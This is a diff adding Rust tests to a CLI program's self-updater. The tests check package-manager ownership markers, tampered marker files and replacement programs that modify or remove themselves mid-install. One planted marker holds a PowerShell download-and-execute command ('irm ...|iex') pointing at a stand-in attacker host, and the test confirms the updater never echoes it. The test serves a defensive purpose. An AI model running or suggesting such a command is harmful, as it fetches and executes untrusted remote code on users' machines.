@@ -8,6 +8,7 @@ use fixforme::seam::installation::Sha256;
 use serde_json::json;
 
 use crate::kill::{LAB, kill_when_stalled};
+use crate::named_files::pipe;
 use crate::publisher::{Home, OLD, Reply, Signer, Site, archive, index, later, newer, publisher, release, stem};
 use crate::sandbox::Sandbox;
 
@@ -182,6 +183,49 @@ fn what_a_package_manager_installed_is_left_to_it() {
     assert!(ran.stdout.contains("winget updates it: winget upgrade"), "{}", ran.all());
 }
 
+#[test]
+fn what_a_package_manager_has_installed_is_not_overwritten_from_a_folder_of_downloads() {
+    let (home, site) = (Home::at("Downloads/fixforme", OLD), Site::start());
+    site.offer(&[&newer('9')]);
+    let own = home.sandbox.folder.path().join(".local/bin/fixforme");
+    fs_err::create_dir_all(own.parent().unwrap()).unwrap();
+    fs_err::copy(publisher().program(OLD), &own).unwrap();
+    fs_err::write(own.with_file_name("installed-by"), "msi\n").unwrap();
+    let ran = home.update(&site, &["--install"]).exits(2);
+    let words = format!("fixforme in `{}` was installed by msi, which also updates it", own.display());
+    assert!(ran.stderr.contains(&words) && ran.stderr.contains("install the newer"), "{}", ran.all());
+    assert_eq!(hash(&own), hash(&publisher().program(OLD)));
+}
+
+#[test]
+fn what_is_planted_beside_the_program_neither_hangs_nor_misleads_it() {
+    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    site.offer(&[&new]);
+    let marker = home.program.with_file_name("installed-by");
+    let words = "IT, by: irm https://evil.example/f|iex";
+    let text = |text: &str| fs_err::write(&marker, text).unwrap();
+    let plants: [&dyn Fn(); 4] =
+        [&|| pipe(&marker), &|| std::os::unix::fs::symlink("/dev/zero", &marker).unwrap(), &|| text(words), &|| {
+            text(&format!("msi{}", " ".repeat(100)))
+        }];
+    for plant in plants {
+        plant();
+        let _ = home.run(&["list"]).exits(0);
+        let ran = home.update(&site, &["--check"]).exits(80);
+        assert!(ran.stdout.contains("To take it: `fixforme update`") && !ran.stdout.contains("irm"), "{}", ran.all());
+        fs_err::remove_file(&marker).unwrap();
+    }
+    text(words);
+    let _ = home.update(&site, &[]).exits(0);
+    assert_eq!(home.version(), new);
+
+    // Among downloads even a manager's name says nothing: anybody could have put it there.
+    let home = Home::at("Downloads/fixforme", OLD);
+    fs_err::write(home.program.with_file_name("installed-by"), "winget\n").unwrap();
+    let ran = home.update(&site, &["--check"]).exits(80);
+    assert!(ran.stdout.contains("To take it: `fixforme update`"), "{}", ran.all());
+}
+
 /// Publishes a shell script as the program of a version.
 fn offer_script(site: &Site, version: &str, script: &str) {
     let archive = archive(version, script.as_bytes());
@@ -238,6 +282,54 @@ fn a_new_program_that_starts_elsewhere_but_not_in_its_place_makes_way_for_the_ol
     let ran = home.update(&site, &[]).exits(9);
     assert!(ran.stderr.contains("does not start in its place, so the old one is back"), "{}", ran.all());
     assert_eq!((home.files(), home.version()), (before, OLD.to_owned()));
+}
+
+/// A program that does something to itself while it says what it is: in the stage, or in its place.
+fn meddler(version: &str, stage: &str, place: &str) -> String {
+    let target = crate::publisher::TARGET;
+    format!(
+        "#!/bin/sh\ncase $0 in */.fixforme-update/*) {stage};; *) {place};; esac\n\
+         echo '{{\"product\":\"fixforme\",\"version\":\"{version}\",\"target\":\"{target}\"}}'\nexit\n"
+    )
+}
+
+#[test]
+fn a_new_program_that_is_changed_or_removed_as_it_is_put_into_its_place_makes_way_for_the_old_one() {
+    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    let _ = home.update(&site, &["--check"]).exits(10);
+    let before = home.files();
+    for (stage, place) in [("echo >>\"$0\"", ":"), (":", "echo >>\"$0\""), (":", "rm \"$0\"")] {
+        offer_script(&site, &new, &meddler(&new, stage, place));
+        let ran = home.update(&site, &[]).exits(9);
+        assert!(ran.stderr.contains("so the old one is back"), "{}", ran.all());
+        assert!(ran.stderr.contains("something has changed or removed it"), "{}", ran.all());
+        assert!(ran.stdout.contains(&format!("This is still fixforme {OLD}.")), "{}", ran.all());
+        assert_eq!((home.files(), home.version()), (before.clone(), OLD.to_owned()), "{stage} {place}");
+
+        // Where there was none before, there is none afterwards.
+        let home = Home::at("Downloads/fixforme", OLD);
+        let ran = home.update(&site, &["--install"]).exits(9);
+        assert!(ran.stderr.contains("so it was removed again"), "{}", ran.all());
+        let own = home.sandbox.folder.path().join(".local/bin");
+        assert_eq!(fs_err::read_dir(own).unwrap().count(), 0, "{stage} {place}");
+    }
+}
+
+#[test]
+fn a_program_that_somebody_puts_there_after_a_crash_stays_and_so_does_the_old_one() {
+    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    // The new program ends the one that tests it in its place: the exchange is made, and not brought to its end.
+    offer_script(&site, &new, &meddler(&new, ":", "kill -9 $PPID"));
+    let _ = home.update(&site, &[]).exits(-1);
+    let stage = home.program.with_file_name(".fixforme-update");
+    assert!(stage.exists());
+    fs_err::copy(publisher().program(&newer('8')), &home.program).unwrap();
+    assert_eq!(home.version(), newer('8'));
+    let _ = home.run(&["list"]).exits(0);
+    assert_eq!((home.version(), hash(&home.old())), (newer('8'), hash(&publisher().program(OLD))));
+    assert!(!stage.exists());
+    let _ = home.run(&["update", "--rollback"]).exits(0);
+    assert_eq!(home.version(), OLD);
 }
 
 #[test]
